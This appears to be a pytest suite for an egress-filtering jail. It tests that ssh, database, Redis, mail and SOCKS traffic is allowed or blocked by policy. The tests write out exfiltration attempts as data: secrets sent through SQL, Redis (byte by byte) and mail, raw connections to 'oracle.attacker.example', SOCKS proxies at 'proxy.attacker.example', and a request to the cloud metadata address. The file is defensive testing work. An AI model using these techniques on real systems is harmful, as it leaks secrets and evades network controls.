"""Services that are no HTTP, with real clients and servers: ssh, databases, mail; and SOCKS.

Each attempt runs outside the jail too: the positive control. What a server was told is in its log;
what reached nobody's address is at the oracle.
"""

from __future__ import annotations

from typing import Any

import pytest

from tests.lab import Lab, daemons, mysql_server, world
from tests.lab.agents import Ran, need, python, run, secret
from tests.lab.daemon import Daemon
from tests.lab.host_files import BUNDLE

pytestmark = [pytest.mark.lab, pytest.mark.timeout(180)]

both_ways = pytest.mark.parametrize("jailed", [False, True], ids=["outside", "jailed"])


def opened(*services: tuple[str, int, str]) -> str:
    """Policy that opens services: host, port, protocol."""
    rows = (
        f"  - {{host: {host}, port: {port}, protocol: {name}}}\n" for host, port, name in services
    )
    return "tcp:\n" + "".join(rows)


SSH = opened(("git.example.com", 22, "ssh"))
POSTGRES = opened(("db.example.com", 5432, "postgres"))
REDIS = opened(("cache.example.com", 6379, "redis"), ("cache.example.com", 6380, "redis"))


def reasons(ran: Ran) -> list[str]:
    return [block["reason"] for block in ran.blocks()]


def streams(ran: Ran) -> list[dict[str, Any]]:
    """Decisions on relayed services."""
    return [event for event in ran.evidence if event.get("kind") == "tcp_stream"]


# -- ssh -----------------------------------------------------------------------------------------


@both_ways
def test_git_over_ssh(clean_lab: Lab, jailed: bool) -> None:
    need(daemons.missing("ssh"))
    daemons.ssh(clean_lab)
    clean_lab.clear()
    script = (
        "cd $(mktemp -d) && git clone -q ssh://git@git.example.com/run/lab/git/demo.git && "
        "cd demo && cat README.md && wc -c < data.bin && git fetch -q && git ls-remote | wc -l"
    )
    ran = run(clean_lab, ["sh", "-c", script], jailed=jailed, policy=SSH)
    assert ran.returncode == 0, ran.errors
    assert "A repository of the lab." in ran.text
    assert "1048576" in ran.text
    assert clean_lab.dials(port=22)
    if jailed:
        assert [event["action"] for event in streams(ran)] == ["allow"] * 3
        finished = [event for event in ran.evidence if event["event"] == "finished"]
        assert {event["host"] for event in finished} == {"git.example.com"}
        assert all(event["sent"] > 1000 < event["received"] for event in finished)


def test_ssh_that_is_not_opened_says_so(clean_lab: Lab) -> None:
    need(daemons.missing("ssh"))
    daemons.ssh(clean_lab)
    clean_lab.clear()
    command = ["ssh", "-o", "BatchMode=yes", "git@git.example.com", "true"]
    ran = run(clean_lab, command, jailed=True)
    assert ran.returncode == 255
    assert "ssh is not opened for git.example.com:22; add it under tcp" in ran.errors
    assert reasons(ran) == ["protocol_refused"]
    assert clean_lab.dials() == []
    assert clean_lab.oracle.records() == []


# -- PostgreSQL ----------------------------------------------------------------------------------


@pytest.fixture
def database(clean_lab: Lab) -> Daemon:
    need(daemons.missing("postgres"))
    server = daemons.postgres(clean_lab)
    server.clear()
    clean_lab.clear()
    return server


def psql(statement: str, options: str = "", host: str = "db.example.com") -> list[str]:
    url = f"postgresql://dev:{daemons.PASSWORD}@{host}/postgres?connect_timeout=10{options}"
    return ["psql", "-qAtX", "-c", statement, url]


MODES = {
    "default": "",
    "require": "&sslmode=require",
    "verify-full": f"&sslmode=verify-full&sslrootcert={BUNDLE}",
    "disable": "&sslmode=disable",
}


@both_ways
@pytest.mark.parametrize("mode", list(MODES))
def test_psql(clean_lab: Lab, database: Daemon, mode: str, jailed: bool) -> None:
    statement = "select 6 * 7, ssl from pg_stat_ssl where pid = pg_backend_pid()"
    ran = run(clean_lab, psql(statement, MODES[mode]), jailed=jailed, policy=POSTGRES)
    assert ran.returncode == 0, ran.errors
    assert ran.text.strip().splitlines()[0] == ("42|f" if mode == "disable" else "42|t")
    assert reasons(ran) == []
    if jailed:
        assert len(streams(ran)) == 1  # no second attempt in clear


@both_ways
@pytest.mark.parametrize("mode", ["default", "disable"])
def test_a_secret_in_sql(clean_lab: Lab, database: Daemon, mode: str, jailed: bool) -> None:
    statement = f"select length('{secret()}')"
    ran = run(clean_lab, psql(statement, MODES[mode]), jailed=jailed, policy=POSTGRES)
    if not jailed:
        assert ran.text.strip() == "20"
        assert database.wait_for(secret())
        return
    assert ran.returncode != 0
    assert "egressguard: secret" in ran.errors
    assert reasons(ran) == ["secret"]
    assert secret() not in database.log()


@both_ways
def test_large_copies(clean_lab: Lab, database: Daemon, jailed: bool) -> None:
    words = ["create temp table t (n int)", "\\copy t from stdin", "select sum(n) from t"]
    commands = " ".join(f"-c '{word}'" for word in words)
    script = f"seq 1 200000 | psql -qAtX {commands} '{psql('')[-1]}'"
    ran = run(clean_lab, ["sh", "-c", script], jailed=jailed, policy=POSTGRES)
    assert ran.text.strip().splitlines()[0] == "20000100000", ran.errors
    assert reasons(ran) == []


def test_postgres_that_is_not_opened_says_so(clean_lab: Lab, database: Daemon) -> None:
    ran = run(clean_lab, psql("select 1"), jailed=True)
    assert ran.returncode == 2
    assert "postgres is not opened for db.example.com:5432; add it under tcp" in ran.errors
    assert set(reasons(ran)) == {"protocol_refused"}
    assert clean_lab.dials() == []


def test_channel_binding_is_refused_with_the_remedy(clean_lab: Lab, database: Daemon) -> None:
    command = psql("select 1", "&sslmode=require&channel_binding=require")
    ran = run(clean_lab, command, jailed=True, policy=POSTGRES)
    assert ran.returncode == 2
    assert "connect with channel_binding=disable" in ran.errors


def test_a_database_with_a_bad_certificate_is_refused(clean_lab: Lab, database: Daemon) -> None:
    """The name is another one, so the certificate is not for it."""
    clean_lab.set_name("other.example.com", world.Answer(world.DATABASE))
    policy = opened(("other.example.com", 5432, "postgres"))
    command = psql("select 1", "&sslmode=require", "other.example.com")
    ran = run(clean_lab, command, jailed=True, policy=policy)
    assert ran.returncode == 2
    assert reasons(ran) == ["certificate_invalid"]
    outside = run(clean_lab, command, jailed=False)
    assert outside.returncode == 0, outside.errors  # psql itself does not look


# -- MySQL ---------------------------------------------------------------------------------------

MYSQL = opened(("db.example.com", 3306, "mysql"))
MYSQL_MODES = {
    "clear": ["--skip-ssl"],
    "tls": ["--ssl"],
    "verified": ["--ssl", "--ssl-verify-server-cert", f"--ssl-ca={BUNDLE}"],
    "compressed": ["--ssl", "--compress"],
}
_STATUS = "select variable_value from information_schema.session_status where variable_name in "


@both_ways
@pytest.mark.parametrize("mode", list(MYSQL_MODES))
def test_mysql(clean_lab: Lab, mode: str, jailed: bool) -> None:
    need(mysql_server.missing())
    server = mysql_server.mysql(clean_lab)
    options = MYSQL_MODES[mode]
    status = f"{_STATUS} ('compression', 'ssl_version')"
    ran = run(clean_lab, mysql_server.client(*options, "-e", status), jailed=jailed, policy=MYSQL)
    compressed = mode == "compressed" and not jailed  # inside, it is not offered
    version = [] if mode == "clear" else ["TLSv1.3"]
    assert ran.text.split() == ["ON" if compressed else "OFF", *version], ran.errors
    server.clear()
    statement = f"select length('{secret()}')"
    command = mysql_server.client(*options, "-e", statement)
    ran = run(clean_lab, command, jailed=jailed, policy=MYSQL)
    if not jailed:
        assert ran.text.split() == ["20"]
        assert server.wait_for(secret())
        return
    assert ran.returncode == 1
    assert "egressguard: secret" in ran.errors
    assert reasons(ran) == ["secret"]
    assert secret() not in server.log()


# -- Redis ---------------------------------------------------------------------------------------


@pytest.fixture
def cache(clean_lab: Lab) -> Daemon:
    need(daemons.missing("redis"))
    server = daemons.redis(clean_lab)
    server.clear()
    clean_lab.clear()
    return server


PLACES = {"clear": ["-p", "6379"], "tls": ["-p", "6380", "--tls", "--sni", "cache.example.com"]}


@both_ways
@pytest.mark.parametrize("place", list(PLACES))
def test_redis(clean_lab: Lab, cache: Daemon, place: str, jailed: bool) -> None:
    command = ["redis-cli", "-h", "cache.example.com", *PLACES[place]]
    script = "\n".join(
        ["set k honest", "get k", "lpush l 1 2 3", "lrange l 0 -1", "del l", "config get port"]
    )
    words = ["sh", "-c", f"printf '%s\\n' \"$0\" | {' '.join(command)}", script]
    ran = run(clean_lab, words, jailed=jailed, policy=REDIS)
    assert ran.text.split()[:8] == ["OK", "honest", "3", "3", "2", "1", "1", "port"], ran.errors
    assert reasons(ran) == []


@both_ways
@pytest.mark.parametrize("place", list(PLACES))
def test_a_secret_in_redis(clean_lab: Lab, cache: Daemon, place: str, jailed: bool) -> None:
    command = ["redis-cli", "-h", "cache.example.com", *PLACES[place], "set", "k", secret()]
    ran = run(clean_lab, command, jailed=jailed, policy=REDIS)
    if not jailed:
        assert cache.wait_for(secret())
        return
    assert "egressguard: secret" in ran.text
    assert reasons(ran) == ["secret"]
    assert secret() not in cache.log()
    assert clean_lab.dials() == []  # judged before anything was dialled


_CUT = """
import socket, sys, time
end = socket.create_connection(("cache.example.com", 6379), 5)
end.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
try:
    for byte in ("SET first 1\\r\\nSET k " + sys.argv[1] + "\\r\\n").encode():
        end.send(bytes((byte,)))
        time.sleep(0.002)
    end.shutdown(socket.SHUT_WR)
    while data := end.recv(4096):
        print(data.decode(), end="")
except OSError as error:
    print(error)
"""


@both_ways
def test_a_secret_byte_by_byte(clean_lab: Lab, cache: Daemon, jailed: bool) -> None:
    """Nothing of the command that carries it arrives, however small the pieces."""
    ran = run(clean_lab, ["python3", "-c", _CUT, secret()], jailed=jailed, policy=REDIS)
    assert cache.wait_for('"first"')
    if not jailed:
        assert cache.wait_for(secret()), ran.text
        return
    assert reasons(ran) == ["secret"]
    assert "AKIA" not in cache.log()


def test_redis_that_is_spoken_to_in_http_is_refused(clean_lab: Lab, cache: Daemon) -> None:
    command = ["curl", "-sS", "-m", "5", "http://cache.example.com:6379/"]
    ran = run(clean_lab, command, jailed=True, policy=REDIS)
    assert reasons(ran) == ["protocol_refused"]
    assert clean_lab.dials() == []
    run(clean_lab, command, jailed=False)
    assert clean_lab.dials(port=6379)


# -- mail ----------------------------------------------------------------------------------------

MAIL = {
    "smtp in clear": ("smtp", 25, False),
    "smtp with STARTTLS": ("smtp", 587, True),
    "smtp in TLS": ("smtp", 465, True),
    "imap with STARTTLS": ("imap", 143, True),
    "imap in TLS": ("imap", 993, True),
    "pop3 with STLS": ("pop3", 110, True),
    "ftp with AUTH TLS": ("ftp", 21, True),
}


@both_ways
@pytest.mark.parametrize("case", list(MAIL))
def test_mail(clean_lab: Lab, case: str, jailed: bool) -> None:
    """The honest letter arrives through the TLS that was asked for, the secret does not."""
    need(daemons.missing("mail"))
    server = daemons.mail(clean_lab)
    protocol, port, secure = MAIL[case]
    policy = opened(("mail.example.com", port, protocol))
    for text in ("an honest word", f"the key is {secret()}"):
        server.clear()
        command = python("mail_talk.py", protocol, "mail.example.com", port, text)
        ran = run(clean_lab, command, jailed=jailed, policy=policy)
        said = [record for record in server.records() if text in record["line"]]
        if jailed and secret() in text:
            assert "egressguard: secret" in ran.json()["said"]
            assert reasons(ran) == ["secret"]
            assert secret() not in server.log()
        else:
            assert "ok" in ran.json(), (ran.json(), ran.blocks())
            assert [record["secure"] for record in said] == [secure]


# -- what is not opened --------------------------------------------------------------------------

_SAY = """
import socket, sys, time
start = time.monotonic()
try:
    end = socket.create_connection((sys.argv[1], int(sys.argv[2])), 5)
    end.sendall(bytes.fromhex(sys.argv[3]))
    print(end.recv(4096).decode("latin-1"))
except OSError as error:
    print(error)
print(f"{time.monotonic() - start:.2f}")
"""
BEGINNINGS: dict[str, tuple[int, bytes]] = {
    "ssh": (2222, b"SSH-2.0-tunnel\r\n"),
    "postgres": (5432, b"\x00\x00\x00\x08\x04\xd2\x16\x2f"),
    "redis": (81, b"*1\r\n$4\r\nPING\r\n"),
    "bittorrent": (6881, b"\x13BitTorrent protocol" + bytes(48)),
    "openvpn": (1194, bytes.fromhex("003638a1b2c3d4e5f60718") + bytes(45)),
    "wireguard": (51820, bytes.fromhex("009401000000") + bytes(144)),
    "mqtt": (1883, bytes.fromhex("101000044d5154540402003c000461626364")),
    "git": (9418, b"0033git-upload-pack /project.git\0host=example.com\0"),
    "irc": (6667, b"NICK a\r\nUSER a 0 * :a\r\n"),
    "telnet": (23, bytes.fromhex("fffd18fffd20")),
    "rdp": (3389, bytes.fromhex("030000130ee000000000000100080003000000")),
    "dns": (8853, bytes.fromhex("001d1a2b01000001000000000000076578616d706c6503636f6d0000010001")),
}


@pytest.mark.parametrize("name", list(BEGINNINGS))
def test_other_protocols_are_refused_by_name(clean_lab: Lab, name: str) -> None:
    port, data = BEGINNINGS[name]
    command = ["python3", "-c", _SAY, "oracle.attacker.example", str(port), data.hex()]
    outside = run(clean_lab, command, jailed=False)
    assert "oracle" in outside.text or clean_lab.oracle.records(), outside.errors
    clean_lab.clear()
    ran = run(clean_lab, command, jailed=True)
    (block,) = ran.blocks()
    assert block["reason"] == "protocol_refused"
    assert block["detail"].startswith(f"{name} is not opened for oracle.attacker.example:{port};")
    assert clean_lab.oracle.records() == []
    assert float(ran.text.split()[-1]) < 1


@pytest.mark.parametrize(
    ("port", "name"), [(25, "smtp"), (143, "imap"), (3306, "mysql"), (22, "ssh")]
)
def test_a_client_that_waits_is_reset_and_named(clean_lab: Lab, port: int, name: str) -> None:
    command = ["python3", "-c", _SAY, "oracle.attacker.example", str(port), ""]
    ran = run(clean_lab, command, jailed=True)
    (block,) = ran.blocks()
    assert block["reason"] == "port_not_allowed"
    assert f"{name} is not opened for oracle.attacker.example:{port}" in block["detail"]
    assert clean_lab.oracle.records() == []


# -- SOCKS ---------------------------------------------------------------------------------------

PROXIES = {
    "socks5, address": ["--socks5", "proxy.invalid:1080"],
    "socks5, name": ["--socks5-hostname", "proxy.attacker.example:9050"],
    "socks5, password": ["--proxy", "socks5h://alice:pass@proxy.attacker.example:443"],
    "socks4": ["-4", "--socks4", "proxy.attacker.example:1080"],
    "socks4a": ["--socks4a", "11.22.33.66:80"],
    "socks5, closed address": ["--socks5-hostname", "10.0.0.5:1080"],
}
CURL = ["curl", "-sS", "--max-time", "15"]


@pytest.mark.parametrize("scheme", ["https", "http"])
@pytest.mark.parametrize("proxy", list(PROXIES))
def test_socks(clean_lab: Lab, proxy: str, scheme: str) -> None:
    """The proxy is never dialled; what is inside is judged, in TLS as well."""
    command = [*CURL, *PROXIES[proxy], f"{scheme}://api.example.com/get?x=1"]
    ran = run(clean_lab, command, jailed=True)
    assert '"target": "/get?x=1"' in ran.text, ran.errors
    (request,) = clean_lab.requests()
    assert request.field("host") == "api.example.com"
    assert bool(request.tls) is (scheme == "https")
    assert clean_lab.oracle.records() == []
    clean_lab.clear()
    ran = run(clean_lab, [*command[:-1], f"{scheme}://api.example.com/?k={secret()}"], jailed=True)
    assert '"reason":"secret"' in ran.text, ran.errors
    assert clean_lab.requests() == []
    assert clean_lab.oracle.records() == []
    assert "alice" not in str(ran.evidence)


def test_socks_the_control(clean_lab: Lab) -> None:
    """Outside the jail the proxy is dialled, and the secret reaches the server without one."""
    run(clean_lab, [*CURL, *PROXIES["socks5, name"], "https://api.example.com/"], jailed=False)
    assert {arrival.port for arrival in clean_lab.oracle.records()} == {9050}
    run(clean_lab, [*CURL, f"https://api.example.com/?k={secret()}"], jailed=False)
    assert secret() in clean_lab.requests()[-1].target


def test_socks_leads_to_no_private_address(clean_lab: Lab) -> None:
    proxy = ["--socks5-hostname", "proxy.attacker.example:1080"]
    for host, reason in (("10.0.0.5", "address_private"), ("169.254.169.254", "address_metadata")):
        ran = run(clean_lab, [*CURL, *proxy, f"http://{host}/"], jailed=True)
        assert f'"reason":"{reason}"' in ran.text, ran.errors
    assert clean_lab.oracle.records() == []


_THROUGH = """
import os, select, socket, sys
end = socket.create_connection(("proxy.invalid", 1080), 5)
host = sys.argv[1].encode()
end.sendall(b"\\x05\\x01\\x00")
end.recv(2)
port = int(sys.argv[2]).to_bytes(2, "big")
end.sendall(b"\\x05\\x01\\x00\\x03" + bytes((len(host),)) + host + port)
end.recv(10)
while True:
    for ready in select.select([0, end], [], [])[0]:
        data = os.read(0, 65536) if ready == 0 else end.recv(65536)
        if not data:
            sys.exit()
        end.sendall(data) if ready == 0 else os.write(1, data)
""".strip()


def test_ssh_through_socks(clean_lab: Lab) -> None:
    """An opened service is reached through a proxy that is not there."""
    need(daemons.missing("ssh"))
    daemons.ssh(clean_lab)
    helper = f"ProxyCommand=python3 -c '{_THROUGH}' %h %p"
    command = ["ssh", "-o", "BatchMode=yes", "-o", helper, "git@git.example.com", "echo through"]
    ran = run(clean_lab, command, jailed=True, policy=SSH)
    assert ran.text.strip().startswith("through"), ran.errors
